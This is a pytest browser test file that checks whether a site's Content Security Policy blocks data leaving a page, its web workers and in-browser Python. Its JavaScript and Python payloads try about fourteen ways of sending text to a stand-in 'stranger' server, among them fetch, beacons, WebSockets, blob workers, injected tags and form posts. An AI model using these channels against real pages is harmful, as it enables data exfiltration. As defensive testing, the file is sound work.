"""The page's policy in a real browser: whatever code tries to send words out, no stranger hears of it."""

import pytest

from tests.browser.conftest import Handler, served
from tests.browser.sheets import create_binder, engine_ready, open_sheet

# Each way code could take to a stranger's server, named by the last part of the address.
FROM_PAGE = """async (stranger) => {
  const attempt = async (work) => { try { await work(); } catch { /* the policy said no */ } };
  const add = (name, more) => document.body.append(Object.assign(document.createElement(name), more));
  await attempt(() => fetch(stranger + "fetch?ord"));
  await attempt(() => new Promise((done, fail) => {
    const asked = new XMLHttpRequest();
    asked.onloadend = done;
    asked.open("GET", stranger + "xhr?ord");
    asked.send();
  }));
  await attempt(() => import(stranger + "import?ord"));
  await attempt(() => navigator.sendBeacon(stranger + "beacon", "ord"));
  await attempt(() => new WebSocket(stranger.replace("http", "ws") + "socket?ord"));
  await attempt(() => new EventSource(stranger + "events?ord"));
  await attempt(() => new Worker(URL.createObjectURL(new Blob([`fetch("${stranger}blob?ord")`]))));
  add("img", {src: stranger + "img?ord"});
  add("script", {src: stranger + "script?ord"});
  add("link", {rel: "stylesheet", href: stranger + "style?ord"});
  add("iframe", {src: stranger + "frame?ord"});
  add("object", {data: stranger + "object?ord"});
  add("video", {src: stranger + "video?ord"});
  add("form", {action: stranger + "form", target: "_blank"});
  document.body.lastChild.submit();
}"""
WAYS = {
    *("fetch", "xhr", "import", "beacon", "socket", "events", "blob", "img", "script", "style"),
    *("frame", "object", "video", "form"),
}
FROM_WORKER = """async (stranger) => {
  const attempt = async (work) => { try { await work(); } catch { /* the policy said no */ } };
  await attempt(() => fetch(stranger + "fetch?ord"));
  await attempt(() => import(stranger + "import?ord"));
  await attempt(() => new WebSocket(stranger.replace("http", "ws") + "socket?ord"));
}"""
FROM_PYTHON = """async ([home, stranger]) => {
  const {loadPyodide} = await import(home + "pyodide.mjs");
  const python = await loadPyodide({indexURL: home});
  python.globals.set("stranger", stranger);
  return (await python.runPythonAsync(`
from urllib.request import urlopen
from js import WebSocket, fetch
from pyodide.http import pyfetch

failed = []
for name, work in (("js", fetch), ("http", pyfetch)):
    try:
        await work(stranger + name)
    except Exception:
        failed.append(name)
try:
    urlopen(stranger + "urllib")
except Exception:
    failed.append("urllib")
WebSocket.new(stranger.replace("http", "ws") + "socket")
failed`)).toJs();
}"""
LONG_ENOUGH_MS = 1_500


class Stranger:
    """Somebody else's server, and the names that it was asked for."""

    def __init__(self, root: str, asked: set[str]) -> None:
        self.root = root
        self._asked = asked

    def heard(self, page) -> set[str]:
        """What it has been asked for, when there has been time to ask."""
        page.wait_for_timeout(LONG_ENOUGH_MS)
        return self._asked


@pytest.fixture
def stranger(tmp_path, watch):
    asked: set[str] = set()

    class Listening(Handler):
        def parse_request(self) -> bool:
            is_whole = super().parse_request()
            asked.add(self.path.rsplit("/", 1)[-1].split("?")[0])
            return is_whole

    watch.expect("Content Security Policy|violates|Failed to (fetch|load)|ERR_BLOCKED_BY_CSP|404")
    watch.expect("WebSocket|CORS policy|MIME type|ERR_FAILED|501")
    with served(tmp_path, Listening) as site:
        yield Stranger(site.root, asked)


@pytest.mark.parametrize(
    "address", ["arbetsblad/mal/", "flikar/1-introduktion/", "parmar/", "min-plan/"]
)
def test_no_way_out_of_the_page_reaches_a_stranger(context, site, stranger, address):
    page = context.new_page()
    page.goto(site.url(address))
    page.evaluate(FROM_PAGE, stranger.root)
    assert stranger.heard(page) == set()


def test_without_a_policy_every_way_would_have_reached_the_stranger(context, tmp_path, stranger):
    folder = tmp_path / "utan"
    folder.mkdir()
    (folder / "index.html").write_text("<!doctype html><title>Utan</title>")
    with served(folder) as unguarded:
        page = context.new_page()
        page.goto(unguarded.root)
        page.evaluate(FROM_PAGE, stranger.root)
        assert stranger.heard(page) == WAYS


def test_no_way_out_of_the_engine_reaches_a_stranger(context, site, stranger):
    page = engine_ready(open_sheet(context.new_page(), site, "mal"))
    page.workers[0].evaluate(FROM_WORKER, stranger.root)
    assert stranger.heard(page) == set()


def test_no_way_out_of_python_reaches_a_stranger(context, site, stranger):
    page = engine_ready(open_sheet(context.new_page(), site, "mal"))
    home = site.url("runtime/pyodide/")
    failed = page.workers[0].evaluate(FROM_PYTHON, [home, stranger.root])
    assert (failed, stranger.heard(page)) == (["js", "http", "urllib"], set())


def test_every_worker_starts_from_the_page_itself_and_so_under_its_policy(context, site):
    started = []
    page = context.new_page()
    page.on("worker", lambda worker: started.append(worker.url))
    create_binder(page, site)
    engine_ready(open_sheet(page, site, "mal"))
    assert {url.split(":")[0] for url in started} == {"blob"}
    assert len(started) >= len(["the stretcher", "the engine"])
